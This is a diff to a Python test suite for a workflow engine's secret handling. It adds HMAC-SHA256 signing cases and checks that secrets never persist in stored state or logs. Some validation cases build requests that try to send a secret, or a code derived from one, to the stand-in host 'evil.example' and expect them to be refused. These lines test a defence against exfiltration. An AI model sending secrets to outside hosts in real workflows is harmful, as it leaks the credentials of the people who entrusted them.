@@ -1,6 +1,7 @@
 """A secret reaches the hosts that it is allowed for, at the moment of sending, and stays nowhere else."""
 
 import base64
+import hmac
 import json
 from typing import Any
 
@@ -48,6 +49,18 @@ def refused(step, **about):
         ({"id": "s", "type": "set", "input": {"a": ["{{ secrets.erp }}"]}}, ("steps[0].input.a", "secret_place")),
         (request(json={"a": "{{ upper(secrets.erp) }}"}), ("steps[0].input.json", "expression")),
         (request(json={"a": "{{ secrets }}"}), ("steps[0].input.json", "expression")),
+        (request(json={"a": "{{ upper(hmac_sha256('a', secrets.erp)) }}"}), ("steps[0].input.json", "expression")),
+        (request(json={"a": "{{ hmac_sha256(secrets.erp, 'k') }}"}), ("steps[0].input.json", "expression")),
+        (request(json={"a": "{{ hmac_sha256(secrets.erp, secrets.erp) }}"}), ("steps[0].input.json", "expression")),
+        (request(json={"a": "{{ hmac_sha256('a', secrets.erp, `5`) }}"}), ("steps[0].input.json", "expression")),
+        (request(json={"a": "{{ [hmac_sha256('a', secrets.erp)] }}"}), ("steps[0].input.json", "expression")),
+        (request(method="{{ hmac_sha256('a', secrets.erp) }}"), ("steps[0].input.method", "secret_place")),
+        ({**request(), "when": "hmac_sha256('a', secrets.erp)"}, ("steps[0].when", "secret_place")),
+        (request(json={"a": "{{ hmac_sha256('a', secrets.other) }}"}), ("steps[0].input.json", "unknown_secret")),
+        (
+            request(url="https://evil.example/", json="{{ hmac_sha256('a', secrets.erp) }}"),
+            ("steps[0].input.json", "secret_host"),
+        ),
         (request(json={"a": "{{ secrets.erp || 'x' }}"}), ("steps[0].input.json", "expression")),
         (request(headers={"X": "{{ secrets.other }}"}), ("steps[0].input.headers", "unknown_secret")),
         (request(url="https://evil.example/", json="{{ secrets.erp }}"), ("steps[0].input.json", "secret_host")),
@@ -130,6 +143,34 @@ def test_secrets_arrive_in_every_place_and_a_receiver_that_repeats_them_leaves_n
     for form in (*ENCODED, "tok-ascii-1"):
         assert form not in left, form
     assert left.count("********") > 10
+
+
+def test_a_code_made_with_a_secret_is_sent_and_leaves_no_trace(states, table, capfd):
+    with Receiver(repeat) as receiver:
+        keep("erp", TOKEN, [host(receiver)])
+        about = {
+            "url": f"{receiver.url}/signed",
+            "body": "{{ to_json(input.order) }}",
+            "headers": {
+                "Content-Type": "application/json",
+                "X-Hex": "sha256={{ hmac_sha256(to_json(input.order), secrets.erp) }}",
+                "X-Base64": "{{ hmac_sha256(join('.', [run.id, 'é']), secrets.erp, 'base64') }}",
+            },
+        }
+        identifier = workflow({"id": "send", "type": "http_request", "input": about})
+        run = execute(identifier, {"order": {"id": 7, "name": "Núria"}})["instance_id"]
+        states.run()
+    done = instance(run)
+    assert done["status"] == "completed", done
+    (got,) = receiver.received
+    assert got.body.decode() == '{"id":7,"name":"Núria"}'
+    code = hmac.new(TOKEN.encode(), got.body, "sha256").hexdigest()
+    other = base64.b64encode(hmac.digest(TOKEN.encode(), f"{run}.é".encode(), "sha256")).decode()
+    assert (got.headers["x-hex"], got.headers["x-base64"]) == (f"sha256={code}", other)
+    left = everything(table) + json.dumps(done) + "".join(capfd.readouterr())
+    for form in (*ENCODED, code, other, other.rstrip("=")):
+        assert form not in left, form
+    assert "sha256=********" in left
 
 
 def test_what_a_later_step_brings_back_of_an_earlier_ones_secret_leaves_no_trace(states, table, stream, capfd):
